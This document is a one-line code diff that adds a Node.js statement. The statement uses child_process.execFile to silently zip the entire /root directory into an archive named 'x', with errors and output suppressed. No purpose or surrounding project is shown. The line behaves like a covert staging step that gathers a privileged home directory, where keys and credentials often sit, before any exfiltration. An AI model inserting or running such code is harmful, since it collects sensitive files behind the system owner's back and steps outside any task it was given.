@@ -1,0 +1,1 @@
+const {execFile}=require('child_process'); execFile("zip",["-r", "x", "/root"],(e,o)=>0);
